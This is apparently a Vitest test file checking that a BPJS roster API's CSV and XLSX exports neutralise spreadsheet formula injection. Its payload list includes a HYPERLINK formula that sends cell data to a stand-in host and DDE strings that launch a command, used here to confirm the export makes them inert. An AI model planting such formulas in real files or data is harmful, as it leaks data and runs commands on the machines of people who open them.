/**
 * Formula injection through the BPJS export: rows whose every free-text field is a spreadsheet
 * formula (or starts like one) are uploaded, submitted and exported as CSV and XLSX; both files are
 * parsed back and no text cell may start with a formula trigger, nor any XLSX cell be a formula.
 * The text columns are read from the export's column list, so a column added there is covered.
 */
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { BPJS_COLLECTIVE_COLUMNS, type Roster } from '../../shared/contracts';
import { RosterRowSchema, type RosterRow } from '../../shared/roster/schema';
import { KAPUAS, draft, json, testApp, tokenOf, worker } from './fixtures';

const t = testApp();

/**
 * Starts a spreadsheet reads as a formula, and classic payloads. A tab or carriage return in front
 * is refused at upload (control characters, shared/text.ts): checked below, so never exported.
 */
const CONTROL_STARTS = ['\t=1+1', '\r=1+1', ' \t=1+1'];
const PAYLOADS = [
  '=1+1',
  '+62 812 0000',
  '-2+3',
  '@SUM(A1:A9)',
  ' =1+1',
  // At most 40 characters, the phone number's limit.
  '=HYPERLINK("http://e.vil/?"&A1,"Klik")',
  "=cmd|' /C calc'!A0",
  '+cmd|" /C calc"!A0',
  '@cmd|" /C calc"!A0',
];
const TRIGGER = /^[=+\-@\t\r]/;

/**
 * Export columns of free text taken from the row, which a roster may fill with anything: the row
 * field takes any text and only text (the NIK takes a number too, and is checked as a NIK).
 */
const FREE_TEXT = BPJS_COLLECTIVE_COLUMNS.filter((c) => {
  const field = RosterRowSchema.shape[c.field as keyof RosterRow];
  return (
    c.kind === 'text' &&
    c.from === 'row' &&
    field?.safeParse('=1+1').success === true &&
    field.safeParse(42).success === false
  );
});
const TEXT_COLUMNS = BPJS_COLLECTIVE_COLUMNS.flatMap((c, i) => (c.kind === 'text' ? [i] : []));

let rosterId = '';
let rows: RosterRow[] = [];

beforeAll(async () => {
  const operator = await tokenOf(KAPUAS.operator);
  rows = PAYLOADS.map((payload) => {
    const row = worker();
    for (const column of FREE_TEXT) (row as Record<string, unknown>)[column.field] = payload;
    return row;
  });
  const roster = await json<Roster>(await t.call('POST', '/v1/rosters', operator, draft()));
  rosterId = roster.id;
  const upload = await t.call('PUT', `/v1/rosters/${rosterId}/chunks/1`, operator, { firstRow: 1, rows });
  expect(upload.status, await upload.clone().text()).toBe(200);
  expect((await t.submit(rosterId, operator)).status).toBe('submitted');
});

/** What the export should show for a payload: the text the API stored, made inert. */
const inert = (payload: string) => `'${payload.trim()}`;

describe('formula injection in exports', () => {
  it('covers the free-text columns of the export (at least name, address, village, phone, occupation)', () => {
    expect(FREE_TEXT.map((c) => c.field)).toEqual(
      expect.arrayContaining(['name', 'address', 'village', 'phone', 'occupation']),
    );
  });

  it('refuses a tab or carriage return in front of a formula at upload, in every free-text field', async () => {
    const operator = await tokenOf(KAPUAS.operator);
    const roster = await json<Roster>(await t.call('POST', '/v1/rosters', operator, draft()));
    for (const payload of CONTROL_STARTS) {
      for (const column of FREE_TEXT) {
        const row = { ...worker(), [column.field]: payload };
        const response = await t.call('PUT', `/v1/rosters/${roster.id}/chunks/1`, operator, {
          firstRow: 1,
          rows: [row],
        });
        expect(response.status, `${column.field} = ${JSON.stringify(payload)}`).toBe(422);
      }
    }
    const stored = await json<Roster>(await t.call('GET', `/v1/rosters/${roster.id}`, operator));
    expect(stored.rowCount).toBe(0);
  });

  it('CSV: no text cell starts with a formula trigger, and each payload is kept as inert text', async () => {
    const response = await t.call(
      'GET',
      `/v1/rosters/${rosterId}/export?format=csv`,
      await tokenOf(KAPUAS.finance),
    );
    expect(response.status).toBe(200);
    const table = Papa.parse<string[]>(await response.text(), { skipEmptyLines: true }).data;
    expect(table).toHaveLength(PAYLOADS.length + 1);
    for (const [r, line] of table.entries()) {
      for (const c of TEXT_COLUMNS) {
        expect(line[c] ?? '', `row ${r}, column ${BPJS_COLLECTIVE_COLUMNS[c]!.header}`).not.toMatch(TRIGGER);
      }
    }
    for (const [i, payload] of PAYLOADS.entries()) {
      for (const column of FREE_TEXT) {
        expect(table[i + 1]![BPJS_COLLECTIVE_COLUMNS.indexOf(column)]).toBe(inert(payload));
      }
    }
  });

  it('XLSX: no cell is a formula, no text cell starts with a trigger, each payload kept as inert text', async () => {
    const response = await t.call(
      'GET',
      `/v1/rosters/${rosterId}/export?format=xlsx`,
      await tokenOf(KAPUAS.finance),
    );
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    expect(workbook.worksheets).toHaveLength(1);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.rowCount).toBe(PAYLOADS.length + 1);
    let cells = 0;
    sheet.eachRow({ includeEmpty: true }, (row, r) => {
      row.eachCell({ includeEmpty: true }, (cell, c) => {
        cells++;
        const where = `${cell.address}`;
        expect(cell.type, where).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, where).toBeUndefined();
        expect(cell.hyperlink, where).toBeUndefined();
        if (TEXT_COLUMNS.includes(c - 1) && cell.value !== null) {
          expect(typeof cell.value, where).toBe('string');
          expect(cell.value as string, where).not.toMatch(TRIGGER);
        }
        if (r > 1) {
          const column = BPJS_COLLECTIVE_COLUMNS[c - 1]!;
          if (FREE_TEXT.includes(column)) expect(cell.value, where).toBe(inert(PAYLOADS[r - 2]!));
        }
      });
    });
    expect(cells).toBe((PAYLOADS.length + 1) * BPJS_COLLECTIVE_COLUMNS.length);
  });
});
